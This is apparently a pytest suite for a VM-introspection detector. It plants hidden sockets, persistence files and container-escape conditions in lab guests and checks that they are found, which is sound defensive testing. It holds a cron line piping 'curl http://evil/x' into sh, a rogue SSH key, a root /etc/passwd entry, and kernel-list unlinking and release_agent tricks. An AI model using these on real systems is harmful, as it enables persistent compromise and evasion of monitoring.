"""Sockets, files and containers that are not as they should be, planted in running guests."""

from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, nullcontext
from pathlib import Path
from typing import Final

import pytest

from qvmi.codepacks.container_escape import ContainerEscape
from qvmi.codepacks.file_watch import FileWatch
from qvmi.codepacks.hidden_sockets import HiddenSockets
from qvmi.codepacks.persistence import Persistence
from qvmi.semantics.guest_os import Process
from tests.guests.lab import GuestConfig, Lab
from tests.guests.pool import GuestPool
from tests.guests.watched import POINTER, Watched, of_pid, told, unlinked, watched

KERNELS: Final = ("6.1", "7.x")


@pytest.fixture(scope="module", params=KERNELS)
def its(lab: Lab, profiles: Path, request: pytest.FixtureRequest) -> Iterator[Watched]:
    with ExitStack() as stack:
        guest = GuestPool(lab, stack).restore(GuestConfig(kernel=request.param))
        yield stack.enter_context(watched(guest, profiles))


@contextmanager
def unhashed(its: Watched, node: int) -> Iterator[None]:
    """This takes a node out of its hash table for the length of the block."""
    following, before = its.pointer(node), its.pointer(node + POINTER.size)
    with its.written(before, POINTER.pack(following)):
        yield


# ------------------------------------------------------------------------------------------ hidden sockets

SOCKETS: Final = HiddenSockets()
POISON: Final = POINTER.pack(0xDEAD000000000100) + POINTER.pack(0xDEAD000000000122)
"""What ``list_del`` leaves in an entry: include/linux/poison.h, with x86-64's POISON_POINTER_DELTA."""


def test_sockets_of_a_guest_at_rest_are_held_and_tabled(its: Watched) -> None:
    findings = its.look(SOCKETS).values()
    assert {(one.technique, one.severity) for one in findings} == {("T1040", "low")}
    assert told(findings) == {("sockets", "T1040")}


@pytest.mark.parametrize("poisoned", [False, True])
def test_the_sockets_of_a_process_off_the_task_list_are_nobodys_and_say_whose_they_are(
    its: Watched,
    poisoned: bool,  # noqa: FBT001 - a parameter
) -> None:
    process = its.process("httpd")
    entry = process.address + its.member("task_struct", "tasks")
    with unlinked(its, entry), its.written(entry, POISON) if poisoned else nullcontext():
        finding = its.sees(SOCKETS, lambda one: ":8080 " in one.claim)
        shown = its.guest.run("grep ' 0A ' /proc/net/tcp6; grep ' 0A ' /proc/net/tcp").decode()
    assert "(LISTEN) is open, but no process that is seen has it: " in finding.claim
    assert finding.claim.endswith(f"process {process.pid} (httpd) has, which is off the task list")
    assert finding.evidence[2].facts["pid"] == process.pid
    assert str(finding.evidence[0].facts["inode"]) in shown.split()
    its.misses(SOCKETS, lambda one: ":8080 " in one.claim)


def test_a_listener_that_is_taken_out_of_the_kernels_table_is_found(its: Watched) -> None:
    process = its.process("nc")
    [socket] = [one for one in its.machine.guest.sockets(process) if one.state == "LISTEN"]
    node = socket.address + its.member("sock", "__sk_common")
    node += its.member("sock_common", "skc_nulls_node")
    with unhashed(its, node):
        finding = its.sees(SOCKETS, lambda one: one.key.startswith("untabled"))
        shown = its.guest.run("grep ':115C ' /proc/net/tcp /proc/net/tcp6; true")
    assert shown == b""
    assert finding.evidence[0].address == socket.address
    assert f"of process {process.pid} (nc) is in no table: ss does not show it" in finding.claim


def test_a_packet_socket_is_told_with_whoever_has_it(its: Watched) -> None:
    pid = its.start("udhcpc -f -n -i lo -s /bin/true -t 1000 -T 1000")
    try:
        plain = HiddenSockets(sniffers=())
        finding = its.sees(plain, of_pid(pid, "T1040"))
        assert its.look(SOCKETS).keys().isdisjoint({finding.key})
    finally:
        its.guest.run(f"kill -9 {pid}")
    assert finding.evidence[0].facts["pid"] == pid


# --------------------------------------------------------------------------------------------- persistence


@pytest.fixture
def kept(its: Watched) -> Persistence:
    """This is a codepack that has seen the guest's files."""
    pack = Persistence(files=FileWatch(every_s=0.0))
    assert its.look(pack) == {}
    return pack


@pytest.mark.parametrize(
    ("path", "line", "technique"),
    [
        ("/etc/cron.d/evil", "* * * * * root curl -s http://evil/x | sh", "T1053.003"),
        ("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3 evil", "T1098.004"),
    ],
)
def test_a_file_that_keeps_somebody_in_is_found_when_it_is_made(
    its: Watched, kept: Persistence, path: str, line: str, technique: str
) -> None:
    its.guest.run("sleep 1")  # ctime counts whole seconds
    its.guest.run(f"mkdir -p {path.rpartition('/')[0]}; echo '{line}' >{path}")
    try:
        finding = its.sees(kept, lambda one: one.claim.startswith(f"{path} was made"))
        digest = its.guest.run(f"sha256sum {path}").split()[0].decode()
    finally:
        its.guest.run(f"rm {path}")
    assert finding.technique == technique
    assert finding.severity == ("high" if "curl" in line else "medium")
    assert finding.evidence[0].facts["sha256"] == digest
    its.misses(kept, lambda _: True)


def test_a_line_that_is_added_to_the_users_is_found_with_both_digests(
    its: Watched, kept: Persistence
) -> None:
    before = its.guest.run("sha256sum /etc/passwd; cp /etc/passwd /run/passwd").split()[0].decode()
    its.guest.run("echo evil:x:0:0::/:/bin/sh >>/etc/passwd")
    try:
        finding = its.sees(kept, lambda one: one.claim == "/etc/passwd was changed")
        after = its.guest.run("sha256sum /etc/passwd").split()[0].decode()
    finally:
        its.guest.run("cat /run/passwd >/etc/passwd; rm /run/passwd")
    assert [one.facts["sha256"] for one in finding.evidence] == [before, after]
    its.misses(kept, lambda _: True)


# ---------------------------------------------------------------------------------------- container escape

BOXES: Final = ContainerEscape()
BOX: Final = "/sys/fs/cgroup/docker/" + 16 * "4711"


@contextmanager
def in_a_box(its: Watched, command: str) -> Iterator[Process]:
    """This is a program in a container's cgroup and in a mount namespace of its own."""
    its.guest.run(f"mkdir -p {BOX}")
    pid = its.start(f"unshare -m sh -c 'echo $$ >{BOX}/cgroup.procs; exec {command}'")
    try:
        yield its.process("sleep", pid=pid)
    finally:
        its.guest.run(f"kill -9 {pid}")


def test_processes_of_containers_in_the_hosts_namespaces_are_told_and_no_others(
    its: Watched,
) -> None:
    names = ("in-docker", "in-pod", "in-odd-cgroup")
    findings = its.look(BOXES).values()
    assert told(findings) == {(name, "T1611") for name in names}
    [finding] = [one for one in findings if "(in-pod)" in one.claim and "mount" in one.claim]
    process, first = its.process("in-pod"), its.guest.run("readlink /proc/1/ns/mnt").strip()
    assert its.guest.run(f"readlink /proc/{process.pid}/ns/mnt").strip() == first
    assert f"mnt:[{finding.evidence[1].facts['mnt']}]".encode() == first


def test_the_hosts_root_in_a_container_is_found(its: Watched) -> None:
    with in_a_box(its, "sleep 2995") as process:
        finding = its.sees(BOXES, lambda one: "root file system" in one.claim)
        assert b"rootfs / rootfs " in its.guest.run(f"cat /proc/{process.pid}/mounts")
    assert finding.claim.startswith(f"process {process.pid} (sleep) of the docker container 4711")
    assert (finding.evidence[1].facts["path"], finding.evidence[1].facts["root"]) == ("/", "/")


def test_the_hosts_memory_that_a_container_has_open_is_found(its: Watched) -> None:
    with in_a_box(its, "sleep 2994 3</proc/kcore") as process:
        finding = its.sees(BOXES, lambda one: "/proc/kcore" in one.claim)
    assert f"process {process.pid} (sleep)" in finding.claim
    assert finding.evidence[1].facts["fd"] == 3


def test_a_program_that_the_kernel_runs_for_an_empty_cgroup_is_found(its: Watched) -> None:
    its.guest.run("echo /run/escape >/run/cgroup/pids/release_agent")
    try:
        finding = its.sees(BOXES, lambda one: one.key.startswith("release_agent"))
        assert its.guest.run("cat /run/cgroup/pids/release_agent") == b"/run/escape\n"
    finally:
        its.guest.run("echo >/run/cgroup/pids/release_agent")
    assert finding.evidence[0].facts["release_agent"] == "/run/escape"
    its.misses(BOXES, lambda one: one.key.startswith("release_agent"))
